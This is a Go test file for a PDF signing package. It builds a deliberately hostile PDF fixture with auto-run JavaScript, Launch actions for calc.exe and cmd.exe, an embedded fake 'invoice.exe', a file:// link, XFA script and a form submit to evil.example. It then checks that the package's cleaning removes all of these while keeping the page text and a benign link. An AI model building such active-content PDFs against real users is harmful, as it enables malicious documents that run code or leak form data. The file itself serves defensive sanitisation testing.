package pdfsign

import (
	"bytes"
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/pdfcpu/pdfcpu/pkg/api"
	"github.com/pdfcpu/pdfcpu/pkg/pdfcpu/model"
	"github.com/pdfcpu/pdfcpu/pkg/pdfcpu/types"
)

// hostilePDF is a one-page document with active content of every kind
// Clean removes, next to what it keeps: the page's text and a web link.
func hostilePDF() []byte {
	return rawPDF(
		// 1: catalog
		"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R"+
			" /AA << /WC << /S /Launch /F (calc.exe) >> >>"+
			" /Names << /JavaScript 7 0 R /EmbeddedFiles 8 0 R >>"+
			" /AcroForm << /Fields [12 0 R] /XFA 13 0 R >> /Outlines 17 0 R >>",
		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		// 3: the page, with an action run when it opens
		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R"+
			" /Annots [10 0 R 11 0 R 14 0 R 12 0 R 16 0 R 20 0 R]"+
			" /AA << /O << /S /JavaScript /JS (app.alert\\(2\\)) >> >> >>",
		streamObj("", []byte("BT /F1 20 Tf 72 760 Td (Hostile offer) Tj ET")),
		"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
		// 6: the open action, a script chained to a launch
		"<< /S /JavaScript /JS (app.alert\\(1\\)) /Next << /S /Launch /F (cmd.exe) >> >>",
		"<< /Names [(run) << /S /JavaScript /JS (app.alert\\(3\\)) >>] >>",
		"<< /Names [(invoice.exe) 9 0 R] >>",
		"<< /Type /Filespec /F (invoice.exe) /EF << /F 15 0 R >> >>",
		// 10: a link that runs a script
		"<< /Type /Annot /Subtype /Link /Rect [72 700 200 720] /A << /S /JavaScript /JS (app.alert\\(4\\)) >> >>",
		// 11: a web link, kept; its /Next script is not
		"<< /Type /Annot /Subtype /Link /Rect [72 650 200 670] /A << /S /URI /URI (https://example.com/terms) /Next << /S /JavaScript /JS (app.alert\\(6\\)) >> >> >>",
		// 12: a form field and its widget: submits the form, runs a script when pressed
		"<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (send) /Rect [72 600 200 620] /P 3 0 R"+
			" /A << /S /SubmitForm /F << /FS /URL /F (https://evil.example/) >> >>"+
			" /AA << /D << /S /JavaScript /JS (app.alert\\(5\\)) >> >> >>",
		streamObj("", []byte(`<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>app.alert(7)</script></xdp:xdp>`)),
		"<< /Type /Annot /Subtype /FileAttachment /Rect [72 550 90 570] /FS 9 0 R >>",
		streamObj("/Type /EmbeddedFile", []byte("MZ not really a program")),
		// 16: a link that opens a local file as if it were a web page
		"<< /Type /Annot /Subtype /Link /Rect [72 500 200 520] /A << /S /URI /URI (file:///C:/Windows/System32/calc.exe) >> >>",
		// 17: bookmarks, one that runs a script
		"<< /Type /Outlines /First 18 0 R /Last 18 0 R /Count 1 >>",
		"<< /Title (Terms) /Parent 17 0 R /A << /S /JavaScript /JS (app.alert\\(8\\)) >> >>",
		// 19: a field left out of the form's list, whose widget is on the page
		"<< /FT /Tx /T (name) /Kids [20 0 R] /AA << /K << /S /JavaScript /JS (app.alert\\(9\\)) >> >> >>",
		"<< /Type /Annot /Subtype /Widget /Parent 19 0 R /Rect [72 450 200 470] /P 3 0 R >>",
	)
}

// activeContent lists what a reader could run or open in pdf, read back
// through pdfcpu's model: the entries Clean removes, then the words
// that name active content anywhere in any object, streams decoded
// (so object streams and compression hide nothing).
func activeContent(t *testing.T, pdf []byte) []string {
	t.Helper()
	ctx := readBack(t, pdf)
	var found []string
	for _, k := range []string{"OpenAction", "AA", "AF", "Collection"} {
		if _, ok := ctx.RootDict.Find(k); ok {
			found = append(found, "catalog /"+k)
		}
	}
	if names, _ := ctx.DereferenceDict(ctx.RootDict["Names"]); names != nil {
		for _, k := range []string{"JavaScript", "EmbeddedFiles"} {
			if _, ok := names.Find(k); ok {
				found = append(found, "names /"+k)
			}
		}
	}
	if form, _ := ctx.DereferenceDict(ctx.RootDict["AcroForm"]); form != nil {
		if _, ok := form.Find("XFA"); ok {
			found = append(found, "form /XFA")
		}
	}
	for i := 1; i <= ctx.PageCount; i++ {
		page, _, _, err := ctx.PageDict(i, false)
		if err != nil {
			t.Fatal(err)
		}
		if _, ok := page.Find("AA"); ok {
			found = append(found, fmt.Sprintf("page %d /AA", i))
		}
		for _, a := range annotations(t, ctx, page) {
			found = append(found, activeAnnotation(t, ctx, a)...)
		}
	}
	text := objectsText(t, ctx)
	for _, w := range []string{"/JavaScript", "/JS", "/Launch", "/EmbeddedFile", "/SubmitForm", "/XFA", "/FileAttachment", "app.alert", "calc.exe", "file:"} {
		if strings.Contains(text, w) {
			found = append(found, "word "+w)
		}
	}
	return found
}

func activeAnnotation(t *testing.T, ctx *model.Context, a types.Dict) []string {
	sub := *a.Subtype()
	var found []string
	if sub == "FileAttachment" {
		found = append(found, "FileAttachment annotation")
	}
	if _, ok := a.Find("AA"); ok {
		found = append(found, sub+" annotation /AA")
	}
	if act, _ := ctx.DereferenceDict(a["A"]); act != nil {
		if s := *act.NameEntry("S"); s != "URI" && s != "GoTo" {
			found = append(found, sub+" annotation /A "+s)
		}
		if _, ok := act.Find("Next"); ok {
			found = append(found, sub+" annotation /A /Next")
		}
	}
	return found
}

func readBack(t *testing.T, pdf []byte) *model.Context {
	t.Helper()
	ctx, err := api.ReadAndValidate(bytes.NewReader(pdf), config())
	if err != nil {
		t.Fatalf("read back: %v", err)
	}
	return ctx
}

func annotations(t *testing.T, ctx *model.Context, page types.Dict) []types.Dict {
	t.Helper()
	arr, err := ctx.DereferenceArray(page["Annots"])
	if err != nil {
		t.Fatal(err)
	}
	var out []types.Dict
	for _, o := range arr {
		d, err := ctx.DereferenceDict(o)
		if err != nil {
			t.Fatal(err)
		}
		out = append(out, d)
	}
	return out
}

// objectsText is every object of ctx written out, each stream followed
// by its decoded content.
func objectsText(t *testing.T, ctx *model.Context) string {
	t.Helper()
	var b strings.Builder
	for nr, e := range ctx.Table {
		if e.Free || nr == 0 {
			continue
		}
		o, err := ctx.Dereference(*types.NewIndirectRef(nr, *e.Generation))
		if err != nil || o == nil {
			continue
		}
		b.WriteString(o.PDFString())
		b.WriteByte('\n')
		if sd, ok := o.(types.StreamDict); ok {
			if err := sd.Decode(); err != nil {
				t.Fatalf("object %d: %v", nr, err)
			}
			b.Write(sd.Content)
			b.WriteByte('\n')
		}
	}
	return b.String()
}

// webLinks are the addresses of the URI links on pdf's pages.
func webLinks(t *testing.T, pdf []byte) []string {
	ctx := readBack(t, pdf)
	var uris []string
	for i := 1; i <= ctx.PageCount; i++ {
		page, _, _, err := ctx.PageDict(i, false)
		if err != nil {
			t.Fatal(err)
		}
		for _, a := range annotations(t, ctx, page) {
			act, _ := ctx.DereferenceDict(a["A"])
			if act == nil || *act.NameEntry("S") != "URI" {
				continue
			}
			s, err := ctx.DereferenceStringOrHexLiteral(act["URI"], model.V10, nil)
			if err != nil {
				t.Fatal(err)
			}
			uris = append(uris, s)
		}
	}
	return uris
}

// pageText is the decoded content of pdf's page nr.
func pageText(t *testing.T, pdf []byte, nr int) string {
	ctx := readBack(t, pdf)
	page, _, _, err := ctx.PageDict(nr, false)
	if err != nil {
		t.Fatal(err)
	}
	b, err := ctx.PageContent(page, nr)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

// The test would pass vacuously if activeContent saw nothing: it must
// see every piece of the hostile document.
func TestHostilePDFCarriesActiveContent(t *testing.T) {
	found := activeContent(t, hostilePDF())
	for _, want := range []string{
		"catalog /OpenAction", "catalog /AA", "names /JavaScript", "names /EmbeddedFiles", "form /XFA",
		"page 1 /AA", "Link annotation /A JavaScript", "Link annotation /A /Next", "FileAttachment annotation",
		"Widget annotation /AA", "Widget annotation /A SubmitForm",
		"word /JavaScript", "word /JS", "word /Launch", "word /EmbeddedFile", "word file:",
	} {
		if !slices.Contains(found, want) {
			t.Errorf("activeContent does not see %q in the hostile document; found %q", want, found)
		}
	}
	if links := webLinks(t, hostilePDF()); len(links) != 2 {
		t.Errorf("hostile document's web links %q", links)
	}
}

func TestSignedCopyHasNoActiveContent(t *testing.T) {
	signed, err := Sign(hostilePDF(), Stamp{Name: "Cara", Signature: signaturePNG(t), SessionID: "s_1"})
	if err != nil {
		t.Fatal(err)
	}
	assertCleaned(t, signed)
	if has, err := api.HasWatermarks(bytes.NewReader(signed), config()); err != nil || !has {
		t.Fatalf("signed copy has no stamp: %v", err)
	}
}

// assertCleaned checks pdf is hostilePDF without its active content and
// with all the rest.
func assertCleaned(t *testing.T, pdf []byte) {
	t.Helper()
	if found := activeContent(t, pdf); len(found) > 0 {
		t.Errorf("active content left: %q", found)
	}
	if links := webLinks(t, pdf); !slices.Equal(links, []string{"https://example.com/terms"}) {
		t.Errorf("web links %q, want the terms link only", links)
	}
	if n, err := Check(pdf); err != nil || n != 1 {
		t.Errorf("pages %d, err %v", n, err)
	}
	if text := pageText(t, pdf, 1); !strings.Contains(text, "(Hostile offer) Tj") {
		t.Errorf("page content lost: %q", text)
	}
	if text := objectsText(t, readBack(t, pdf)); !strings.Contains(text, "/Title(Terms)") {
		t.Error("bookmark lost")
	}
}

func TestCleanRemovesActiveContent(t *testing.T) {
	cleaned, err := Clean(hostilePDF())
	if err != nil {
		t.Fatal(err)
	}
	assertCleaned(t, cleaned)
}

func TestCleanKeepsAPlainDocument(t *testing.T) {
	orig := Sample("Offer", 3)
	cleaned, err := Clean(orig)
	if err != nil {
		t.Fatal(err)
	}
	if n, err := Check(cleaned); err != nil || n != 3 {
		t.Fatalf("pages %d, err %v", n, err)
	}
	if text := pageText(t, cleaned, 2); !strings.Contains(text, "(Page 2 of 3) Tj") {
		t.Fatalf("page 2 content lost: %q", text)
	}
	if found := activeContent(t, cleaned); len(found) > 0 {
		t.Fatalf("clean added %q", found)
	}
}

// A document with nothing to remove is kept as its sender has it.
func TestCleanLeavesAPlainDocumentAsItCame(t *testing.T) {
	doc := Sample("Offer", 2)
	out, err := Clean(doc)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(out, doc) {
		t.Fatalf("a document with nothing to remove was rewritten: %d bytes became %d", len(doc), len(out))
	}
}
